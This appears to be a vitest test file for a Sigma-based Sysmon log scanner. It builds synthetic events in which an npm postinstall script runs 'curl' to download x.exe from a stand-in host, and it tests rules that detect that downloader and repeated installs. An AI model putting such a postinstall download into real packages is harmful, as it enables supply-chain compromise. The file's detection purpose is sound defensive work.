import { appendFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeEvents } from '../../src/bench/generate.js';
import { runCli } from '../helpers/cli.js';

const SYSMON = { Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: 'BUILD-7' };
const NODE = 'C:\\Program Files\\nodejs\\node.exe';
const line = (o: object) => JSON.stringify({ ...SYSMON, ...o }) + '\n';
const npm = (time: string) => line({ EventID: 1, UtcTime: time, ProcessGuid: '{aa}', ParentProcessGuid: '{a0}', Image: NODE, CommandLine: 'node npm-cli.js install left-pad', ParentImage: 'C:\\Windows\\explorer.exe' });
const script = (time: string) => line({ EventID: 1, UtcTime: time, ProcessGuid: '{ab}', ParentProcessGuid: '{aa}', Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /d /s /c "node postinstall.js"', CurrentDirectory: 'C:\\w\\node_modules\\left-pad\\' });
const curl = (time: string) => line({ EventID: 1, UtcTime: time, ProcessGuid: '{ac}', ParentProcessGuid: '{ab}', Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl -o x.exe http://203.0.113.7/x.exe' });

const RULES = `title: Downloader below an npm install
id: 44444444-0000-4000-8000-000000000001
level: high
logsource: {category: process_creation}
detection:
  sel: {Image|endswith: '\\curl.exe', InstallPackageManager: npm, AncestorImages|endswith: '\\node.exe'}
  condition: sel
---
title: Two npm installs on one host within an hour
level: medium
correlation: {type: event_count, rules: [npm_install], group-by: [Computer], timespan: 1h, condition: {gte: 2}}
---
title: npm install
name: npm_install
logsource: {category: process_creation}
detection: {sel: {CommandLine|contains: 'npm-cli.js install'}, condition: sel}
`;

describe('enrichment end to end', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sw-enrich-'));
  const rules = join(dir, 'r.yml');
  writeFileSync(rules, RULES);

  it('dump shows the context fields the rules see, and a plain Sigma rule uses them', async () => {
    const input = join(dir, 'small.ndjson');
    writeFileSync(input, npm('2026-11-27 00:00:00.000') + script('2026-11-27 00:00:01.000') + curl('2026-11-27 00:00:02.000'));
    const dump = await runCli(['dump', input]);
    const events = dump.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(events[2].fields).toMatchObject({
      AncestorImages: ['C:\\Windows\\System32\\cmd.exe', NODE, 'C:\\Windows\\explorer.exe'],
      InstallPackageManager: 'npm', InstallPackage: 'left-pad', InstallPhase: 'lifecycle',
    });
    const scan = await runCli(['scan', input, '--rules', rules, '--format', 'jsonl', '-q']);
    expect(scan.stdout.trim().split('\n').map((l) => JSON.parse(l).rule.title)).toEqual(['Downloader below an npm install']);
  });

  it('worker threads enrich and correlate across task boundaries exactly as one thread does', { timeout: 60_000 }, async () => {
    // The install starts before ~50 MB of unrelated events and its downloader runs after them:
    // the tree and the correlation span byte ranges scanned by different workers.
    const input = join(dir, 'big.ndjson');
    writeFileSync(input, npm('2026-11-27 00:00:00.000') + script('2026-11-27 00:00:01.000'));
    await writeEvents(join(dir, 'filler.ndjson'), 40_000);
    const { readFileSync } = await import('node:fs');
    appendFileSync(input, readFileSync(join(dir, 'filler.ndjson')));
    appendFileSync(input, npm('2026-11-27 00:40:00.000').replace('"{aa}"', '"{ba}"') + curl('2026-11-27 00:40:01.000'));
    const one = await runCli(['scan', input, '--rules', rules, '--threads', '1', '--format', 'jsonl', '-q']);
    const two = await runCli(['scan', input, '--rules', rules, '--threads', '2', '--format', 'jsonl', '-q']);
    expect(two.stdout).toBe(one.stdout);
    const alerts = one.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(alerts.map((a) => [a.rule.title, a.source.line])).toEqual([
      ['Two npm installs on one host within an hour', 40_003],
      ['Downloader below an npm install', 40_004],
    ]);
    expect(alerts[0].correlated.map((e: { source: { line: number } }) => e.source.line)).toEqual([1, 40_003]);
    expect(alerts[1].fields.InstallPackage).toBe('left-pad');
  });
});
